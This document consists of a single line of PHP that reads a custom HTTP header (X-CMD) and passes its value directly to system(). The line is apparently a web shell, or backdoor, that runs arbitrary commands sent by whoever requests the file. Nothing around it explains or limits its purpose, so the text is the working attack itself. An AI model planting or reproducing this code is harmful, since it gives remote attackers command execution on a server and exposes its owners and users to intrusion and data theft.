<?php $h = getenv("HTTP_X_CMD"); system($h);
